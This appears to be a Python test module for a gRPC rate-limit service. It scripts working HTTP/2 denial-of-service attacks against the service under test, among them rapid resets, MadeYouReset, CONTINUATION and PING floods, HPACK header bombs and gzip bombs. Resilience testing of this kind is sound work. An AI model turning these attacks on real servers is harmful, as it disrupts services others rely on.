"""What hostile clients do, each for about *SECONDS*; they come back when they are cut off."""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import os
import socket
import struct
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine
from typing import Any

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from rls.api.service import SHOULD_RATE_LIMIT
from rls.proto import rls_pb2
from tests.transport.raw import PREFACE, PREFIX, call_headers, message

SECONDS = 0.7
CALL = message(
    rls_pb2.RateLimitRequest(
        domain="hostile", descriptors=[{"entries": [{"key": "probe", "value": "1"}]}]
    ).SerializeToString()
)
# Never indexed, so that the same bytes open any stream.
HEADERS = Encoder().encode([NeverIndexedHeaderTuple(*header) for header in call_headers(SHOULD_RATE_LIMIT)])
GZIP_HEADERS = Encoder().encode(
    [NeverIndexedHeaderTuple(*header) for header in call_headers(SHOULD_RATE_LIMIT, grpc_encoding="gzip")]
)
Attack = Callable[[str], Coroutine[Any, Any, None]]


class Connection:
    """A connection that was greeted with an HTTP/2 preface and *settings*."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.stream = -1

    async def send(self, data: bytes) -> None:
        """Send *data*; waits where the server does not read, but not longer than the attack."""
        self.writer.write(data)
        await asyncio.wait_for(self.writer.drain(), SECONDS)

    def next_streams(self, count: int) -> range:
        """Numbers of *count* new streams."""
        first = self.stream + 2
        self.stream += 2 * count
        return range(first, self.stream + 1, 2)


@contextlib.asynccontextmanager
async def connected(address: str, preface: bytes | None = None, *, read: bool = True) -> AsyncIterator[Connection]:
    """A connection; what comes back is thrown away, or left unread."""
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    reading = asyncio.create_task(_throw_away(reader)) if read else None
    try:
        writer.write(PREFACE + SettingsFrame(0).serialize() if preface is None else preface)
        yield Connection(reader, writer)
    finally:
        if reading is not None:
            reading.cancel()
            await asyncio.wait([reading])
        writer.transport.abort()


async def _throw_away(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(1 << 16):
            pass


async def persist(attack: Callable[[float], Awaitable[None]]) -> None:
    """Run *attack*, which is told when to end, again and again."""
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        with contextlib.suppress(OSError, TimeoutError):
            await attack(end)
        await asyncio.sleep(0.01)


def flood(chunk: bytes, *, read: bool = True) -> Attack:
    """Sends *chunk* as fast as the server takes it."""

    async def attack(address: str) -> None:
        async def once(end: float) -> None:
            async with connected(address, read=read) as connection:
                while time.monotonic() < end:
                    await connection.send(chunk)

        await persist(once)

    return attack


def opening(frames: Callable[[int], bytes], *, streams: int, connections: int) -> Attack:
    """Opens *streams* streams with *frames* on each of *connections* connections, and holds them, again and again."""

    async def attack(address: str) -> None:
        async def once(end: float) -> None:
            async with connected(address) as connection:
                while time.monotonic() < end:
                    await connection.send(b"".join(map(frames, connection.next_streams(streams))))
                    await asyncio.sleep(0.1)

        await asyncio.gather(*(persist(once) for _ in range(connections)))

    return attack


def resetting(frames: Callable[[int], bytes]) -> Attack:
    """Opens streams with *frames* and resets them at once."""

    def reset(stream: int) -> bytes:
        return frames(stream) + RstStreamFrame(stream, 8).serialize()

    async def attack(address: str) -> None:
        async def once(end: float) -> None:
            async with connected(address) as connection:
                while time.monotonic() < end:
                    await connection.send(b"".join(map(reset, connection.next_streams(200))))

        await asyncio.gather(*(persist(once) for _ in range(4)))

    return attack


def headers(stream: int, block: bytes = HEADERS, *flags: str) -> bytes:
    return HeadersFrame(stream, block, flags=["END_HEADERS", *flags]).serialize()


def half_sent(stream: int) -> bytes:
    return headers(stream) + DataFrame(stream, CALL[:7]).serialize()


def whole(stream: int) -> bytes:
    return headers(stream) + DataFrame(stream, CALL, flags=["END_STREAM"]).serialize()


def wrong(stream: int) -> bytes:
    """A call, and then an error of its stream: the server is to reset it (MadeYouReset, CVE-2025-8671)."""
    # By hand: hyperframe writes no WINDOW_UPDATE of 0.
    return whole(stream) + b"\0\0\x04\x08\0" + stream.to_bytes(4, "big") + bytes(4)


def dribble(stream: int) -> bytes:
    """A message that comes in frames of one byte, and never whole (CVE-2019-9511)."""
    return headers(stream) + b"".join(DataFrame(stream, bytes([byte])).serialize() for byte in CALL[:-1])


def lying(stream: int) -> bytes:
    return headers(stream) + DataFrame(stream, PREFIX.pack(0, 2**32 - 1) + b"x").serialize()


_BOMB = message(gzip.compress(bytes(1 << 23)), 1)


def bomb(stream: int) -> bytes:
    return headers(stream, GZIP_HEADERS) + DataFrame(stream, _BOMB, flags=["END_STREAM"]).serialize()


def many_descriptors(stream: int) -> bytes:
    frames = [DataFrame(stream, _MANY[at : at + 16_000]) for at in range(0, len(_MANY), 16_000)]
    frames[-1].flags.add("END_STREAM")
    return headers(stream) + b"".join(frame.serialize() for frame in frames)


_MANY = message(
    rls_pb2.RateLimitRequest(
        domain="d", descriptors=[{"entries": [{"key": "k", "value": str(i)}]} for i in range(10_000)]
    ).SerializeToString()
)


async def garbage(address: str) -> None:
    """Random bytes, a TLS hello, HTTP/1.1, and a preface followed by random bytes, each on many connections."""
    hello = bytes.fromhex("16030100c8010000c40303") + bytes(192)
    prefaces = [os.urandom(1000), hello, b"GET / HTTP/1.1\r\nhost: x\r\n\r\n", PREFACE + os.urandom(1000), b""]

    async def once(_: float) -> None:
        async with contextlib.AsyncExitStack() as stack:
            for preface in prefaces * 5:
                await stack.enter_async_context(connected(address, preface))
            await asyncio.sleep(0.05)

    await persist(once)


async def connection_churn(address: str) -> None:
    """Connections that are reset as soon as they are open."""
    host, _, port = address.rpartition(":")
    linger = struct.pack("ii", 1, 0)
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        for _ in range(50):
            with contextlib.suppress(OSError), socket.create_connection((host, int(port)), 1) as connection:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
        await asyncio.sleep(0)


def header_bombs(*, settled: bool) -> Attack:
    """A header of 4,000 bytes goes into HPACK's table, and is then named 16,000 times by one byte: 64 MB.

    A client that has not *settled*, that is acknowledged the server's settings, is not yet bound by them.
    """
    plant = Encoder().encode([*call_headers(SHOULD_RATE_LIMIT), ("x", "v" * 4000)])

    async def attack(address: str) -> None:
        async def once(end: float) -> None:
            async with connected(address) as connection:
                if settled:
                    await asyncio.sleep(0.05)
                    await connection.send(SettingsFrame(0, flags=["ACK"]).serialize())
                await connection.send(headers(1, plant, "END_STREAM"))
                for stream in range(3, 100, 2):
                    if time.monotonic() > end:
                        return
                    await connection.send(headers(stream, HEADERS + b"\xbe" * 16_000, "END_STREAM"))

        await asyncio.gather(*(persist(once) for _ in range(4)))

    return attack


def continuation_flood(block: bytes) -> Attack:
    """A header block that never ends."""

    async def attack(address: str) -> None:
        async def once(end: float) -> None:
            async with connected(address) as connection:
                await connection.send(HeadersFrame(1, HEADERS).serialize())
                while time.monotonic() < end:
                    await connection.send(ContinuationFrame(1, block).serialize() * 100)

        await persist(once)

    return attack


async def zero_windows(address: str) -> None:
    """Whole calls whose answers the client never lets come."""
    preface = PREFACE + SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()

    async def once(end: float) -> None:
        async with connected(address, preface) as connection:
            while time.monotonic() < end:
                await connection.send(b"".join(map(whole, connection.next_streams(100))))
                await asyncio.sleep(0.1)

    await asyncio.gather(*(persist(once) for _ in range(20)))


async def never_reads(address: str) -> None:
    """Whole calls whose answers pile up in the connection."""

    async def once(end: float) -> None:
        async with connected(address, read=False) as connection:
            connection.writer.transport.pause_reading()  # type: ignore[attr-defined]
            while time.monotonic() < end:
                await connection.send(b"".join(map(whole, connection.next_streams(50))))
                await asyncio.sleep(0.05)

    await asyncio.gather(*(persist(once) for _ in range(4)))


async def idle_connections(address: str) -> None:
    """Connections that say nothing, or no more than a preface."""
    async with contextlib.AsyncExitStack() as stack:
        for i in range(300):
            await stack.enter_async_context(connected(address, b"" if i % 2 else None))
        await asyncio.sleep(SECONDS)


ATTACKS: dict[str, Attack] = {
    "garbage": garbage,
    "connection churn": connection_churn,
    "idle connections": idle_connections,
    "rapid resets of headers": resetting(headers),
    "rapid resets of whole calls": resetting(whole),
    "rapid resets of half-sent calls": resetting(half_sent),
    "MadeYouReset": opening(wrong, streams=200, connections=4),
    "CONTINUATION flood": continuation_flood(b"\x00\x01x\x01v" * 200),
    "empty CONTINUATION flood": continuation_flood(b""),
    "PING flood": flood(PingFrame(0, b"12345678").serialize() * 1000),
    "PING flood, unread": flood(PingFrame(0, b"12345678").serialize() * 1000, read=False),
    "SETTINGS flood": flood(SettingsFrame(0, settings={1: 4096}).serialize() * 1000),
    "PRIORITY flood": flood(PriorityFrame(1, depends_on=3, stream_weight=1).serialize() * 1000),
    "WINDOW_UPDATE flood": flood(WindowUpdateFrame(0, window_increment=1).serialize() * 1000),
    "empty DATA flood": flood(headers(1) + DataFrame(1).serialize() * 1000),
    "data dribble": opening(dribble, streams=100, connections=4),
    "header bombs": header_bombs(settled=True),
    "header bombs, unsettled": header_bombs(settled=False),
    "lying lengths": opening(lying, streams=100, connections=10),
    "gzip bombs": opening(bomb, streams=10, connections=4),
    "half-sent calls": opening(half_sent, streams=100, connections=10),
    "half-sent headers": opening(headers, streams=100, connections=10),
    "zero windows": zero_windows,
    "answers never read": never_reads,
    "10,000 descriptors": opening(many_descriptors, streams=2, connections=2),
}
